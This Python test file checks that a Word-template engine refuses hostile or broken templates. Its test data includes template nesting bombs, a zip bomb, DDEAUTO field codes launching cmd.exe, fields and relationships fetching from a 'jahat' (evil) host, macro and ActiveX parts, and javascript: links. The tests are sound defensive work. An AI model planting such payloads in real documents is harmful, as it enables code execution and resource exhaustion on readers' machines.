"""Hostile and broken templates are refused in bounded time, with a sentence and never a traceback (pitfall D12)."""

from __future__ import annotations

import io
import random
import time
import zipfile
from pathlib import Path

import pytest

from kinerja_core.documents.katalog import KATALOG
from kinerja_core.documents.mesin import render as modul
from kinerja_core.documents.mesin.galat import TemplatRusak
from kinerja_core.documents.mesin.isian import isian_model
from kinerja_core.documents.mesin.render import templat_bawaan
from kinerja_core.documents.mesin.susun import periksa
from kinerja_core.documents.mesin.wadah import Wadah, baca
from tests.documents import contoh
from tests.documents.bantu import render, templat_dari

RISALAH = KATALOG["risalah"]
ISIAN = isian_model(RISALAH.konteks)
ASLI = baca(templat_bawaan(RISALAH))


@pytest.mark.parametrize(
    ("isi", "kata"),
    [
        ("{% if selesai %}" * 200 + "x" + "{% endif %}" * 200, "bersarang lebih dari"),
        ("{% if selesai %}" + "{% elif penyesuaian %}" * 4000 + "{% endif %}", "terlalu rumit"),
        ("{% if selesai %}" + "{% elif penyesuaian %}" * 501 + "{% endif %}", "terlalu rumit"),  # on every Python
        ("{{ hari_tanggal }}" * 6000, "lebih dari 5000 tanda"),
        ("{" * 200_000, "tidak lengkap"),
        ("{% " * 20_000, "tidak lengkap"),
        ("{{ " + "a." * 100_000 + "b }}", "terlalu panjang"),
        ("{% for " + "x" * 10_000 + " in range(999999999) %}{% endfor %}", "terlalu panjang"),
    ],
    ids=lambda item: item[:12],
)
def test_a_template_made_to_exhaust_the_machine_is_refused_quickly(isi: str, kata: str):
    data = templat_dari([isi])
    mulai = time.perf_counter()
    masalah = periksa(data, ISIAN)
    assert time.perf_counter() - mulai < 30
    assert any(kata in item.pesan for item in masalah if item.tingkat == "kesalahan")
    assert all(len(str(item)) < 1000 for item in masalah)


def test_problems_are_counted_to_a_hundred():
    assert len(periksa(templat_dari([f"{{{{ x{urut} }}}}" for urut in range(300)]), ISIAN)) == 100


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    tujuan = io.BytesIO()
    with zipfile.ZipFile(tujuan, "w", zipfile.ZIP_DEFLATED) as berkas:
        for nama, isi in ASLI.items():
            berkas.writestr(nama, isi)
        berkas.writestr("word/media/bom.bin", bytes(80 * 1024 * 1024))
    assert len(tujuan.getvalue()) < 1024 * 1024
    (masalah,) = periksa(tujuan.getvalue(), ISIAN)
    assert "terlalu besar" in masalah.pesan


def test_text_larger_than_any_real_template_is_refused():
    isi = dict(ASLI)
    isi["word/document.xml"] = isi["word/document.xml"].replace(b"</w:body>", b"<w:p/>" * 1_500_000 + b"</w:body>")
    (masalah,) = periksa(Wadah(isi).tulis({}), ISIAN)
    assert "terlalu besar" in masalah.pesan


def test_a_document_that_grows_beyond_any_page_is_stopped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    templat = tmp_path / "t.docx"
    templat.write_bytes(templat_dari(["{% for a in strategi %}" + "panjang " * 2000 + "{{ a }}{% endfor %}"]))
    assert render("risalah", contoh.risalah_contoh(), templat=templat)
    monkeypatch.setattr(modul, "BATAS_HASIL", 20_000)
    with pytest.raises(TemplatRusak, match="terlalu besar"):
        render("risalah", contoh.risalah_contoh(), templat=templat)


def test_a_short_template_that_repeats_a_long_text_is_stopped_before_it_fills_the_memory(tmp_path: Path):
    templat = tmp_path / "t.docx"
    templat.write_bytes(templat_dari(["{% for a in strategi %}" + "{{ hari_tanggal }}" * 4000 + "{% endfor %}"]))
    konteks = contoh.risalah_contoh().model_copy(update={"hari_tanggal": "x" * 10_000_000})
    with pytest.raises(TemplatRusak, match="terlalu besar"):
        render("risalah", konteks, templat=templat)


@pytest.mark.parametrize("nama", ASLI)
def test_a_package_with_a_part_missing_or_cut_off_is_one_sentence(nama: str):
    tanpa = {part: isi for part, isi in ASLI.items() if part != nama}
    terpotong = {**ASLI, nama: ASLI[nama][: len(ASLI[nama]) // 2]}
    for bagian in (tanpa, terpotong):
        for masalah in periksa(Wadah(bagian).tulis({}), ISIAN):
            assert "rusak" in masalah.pesan or "tidak utuh" in masalah.pesan or "bukan dokumen Word" in masalah.pesan
    assert periksa(Wadah(terpotong).tulis({}), ISIAN)


@pytest.mark.parametrize("benih", range(20))
def test_random_damage_never_ends_in_a_traceback(benih: int):
    acak = random.Random(benih)  # noqa: S311 - damage to a test file needs no secrecy
    berkas = bytearray(templat_bawaan(RISALAH))
    xml = bytearray(ASLI["word/document.xml"])
    for _ in range(4):
        berkas[acak.randrange(len(berkas))] = acak.randrange(256)
        xml[acak.randrange(len(xml))] = acak.randrange(32, 127)
    periksa(bytes(berkas), ISIAN)
    periksa(Wadah({**ASLI, "word/document.xml": bytes(xml)}).tulis({}), ISIAN)


def _berparagraf(xml: str) -> bytes:
    utama = ASLI["word/document.xml"].replace(b"<w:body>", f"<w:body><w:p>{xml}</w:p>".encode(), 1)
    return Wadah({**ASLI, "word/document.xml": utama}).tulis({})


def _kolom(*kode: str) -> str:
    lari = "".join(f"<w:r><w:instrText>{potongan}</w:instrText></w:r>" for potongan in kode)
    tanda = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"{tanda.format('begin')}{lari}{tanda.format('separate')}<w:r><w:t>x</w:t></w:r>{tanda.format('end')}"


@pytest.mark.parametrize(
    ("xml", "nama"),
    [
        (_kolom(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "DDEAUTO"),
        (_kolom("DDE", "AUTO cmd"), "DDEAUTO"),
        ('<w:fldSimple w:instr=" DDE cmd x "/>', "DDE"),
        (_kolom(' INCLUDETEXT "http://jahat/a.docx"'), "INCLUDETEXT"),
        (_kolom(' includepicture "\\\\jahat\\a.png"'), "INCLUDEPICTURE"),
        (_kolom(" LINK Excel.Sheet"), "LINK"),
        (_kolom(" MACROBUTTON jalan klik"), "MACROBUTTON"),
        (_kolom(" IF a ").replace("<w:r><w:t>x", _kolom(" QUOTE 68 68 69") + "<w:r><w:t>x"), "QUOTE"),
        (_kolom("").replace("<w:r><w:t>x", _kolom(" PAGE") + "<w:r><w:t>x"), "tanpa nama"),
    ],
)
def test_a_field_that_fetches_or_starts_something_is_refused(xml: str, nama: str):
    masalah = [item.pesan for item in periksa(_berparagraf(xml), ISIAN) if item.tingkat == "kesalahan"]
    assert masalah == [f"Kolom otomatis {nama} tidak boleh ada di templat; hapus kolom itu."]


def test_a_field_that_only_goes_stale_is_a_warning_and_page_numbers_are_none():
    masalah = periksa(_berparagraf(_kolom(" TOC \\\\o") + _kolom(" = 1 + 1") + _kolom(" PAGE ")), ISIAN)
    assert [(item.tingkat, item.pesan.split()[2]) for item in masalah] == [("peringatan", "TOC"), ("peringatan", "=")]


@pytest.mark.parametrize(
    ("jenis", "sasaran", "luar", "kata"),
    [
        ("vbaProject", "makro.bin", False, "menjalankan program"),
        ("oleObject", "embeddings/a.bin", False, "menjalankan program"),
        ("control", "activeX/a.xml", False, "menjalankan program"),
        ("aFChunk", "a.html", False, "menjalankan program"),
        ("image", "http://jahat/a.png", True, "dari luar berkas"),
        ("attachedTemplate", "//jahat/t.dotm", True, "dari luar berkas"),
        ("hyperlink", "file:///c:/windows/system32/cmd.exe", True, "bukan alamat web"),
        ("hyperlink", "javascript:alert(1)", True, "bukan alamat web"),
        ("mailMergeSource", "file:///c:/pegawai.xlsx", True, "Normal Word Document"),
        ("hyperlink", "https://kemkes.example/panduan", True, ""),
        ("hyperlink", "https://kemkes.example/?nomor={{ nomor }}", True, "tidak dapat dicetak di alamat"),
        ("hyperlink", "https://kemkes.example/?nomor=%7b%7b%20nomor%20%7d%7d", True, "{{ nomor }}"),
        ("hyperlink", "https://kemkes.example/?kutip=%7B%20x%20%7D", True, ""),
    ],
)
def test_what_a_template_refers_to_starts_nothing_and_fetches_nothing(jenis: str, sasaran: str, luar: bool, kata: str):
    mode = ' TargetMode="External"' if luar else ""
    kantor = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rel = f'<Relationship Id="rIdJ" Type="{kantor}/{jenis}" Target="{sasaran}"{mode}/></Relationships>'
    nama = "word/_rels/document.xml.rels"
    isi = {**ASLI, nama: ASLI[nama].replace(b"</Relationships>", rel.encode())}
    masalah = [item.pesan for item in periksa(Wadah(isi).tulis({}), ISIAN)]
    assert [kata in pesan for pesan in masalah] == ([True] if kata else [])


def test_a_document_with_macros_that_was_renamed_is_refused():
    nama = "[Content_Types].xml"
    jenis = ASLI[nama].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    (masalah,) = periksa(Wadah({**ASLI, nama: jenis}).tulis({}), ISIAN)
    assert "makro" in masalah.pesan


def test_a_template_made_from_a_printed_document_never_carries_that_persons_data_on(tmp_path: Path):
    templat = tmp_path / "t.docx"
    templat.write_bytes(render("risalah", contoh.risalah_contoh(), jejak=True))
    with pytest.raises(TemplatRusak, match="masih membawa data orang lain"):
        render("risalah", contoh.risalah_terkecil(), templat=templat, jejak=True)


def test_a_doctype_is_refused_in_any_encoding():
    isi = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16")
    (masalah,) = periksa(Wadah({**ASLI, "word/footer9.xml": isi}).tulis({}), ISIAN)
    assert "DOCTYPE" in masalah.pesan
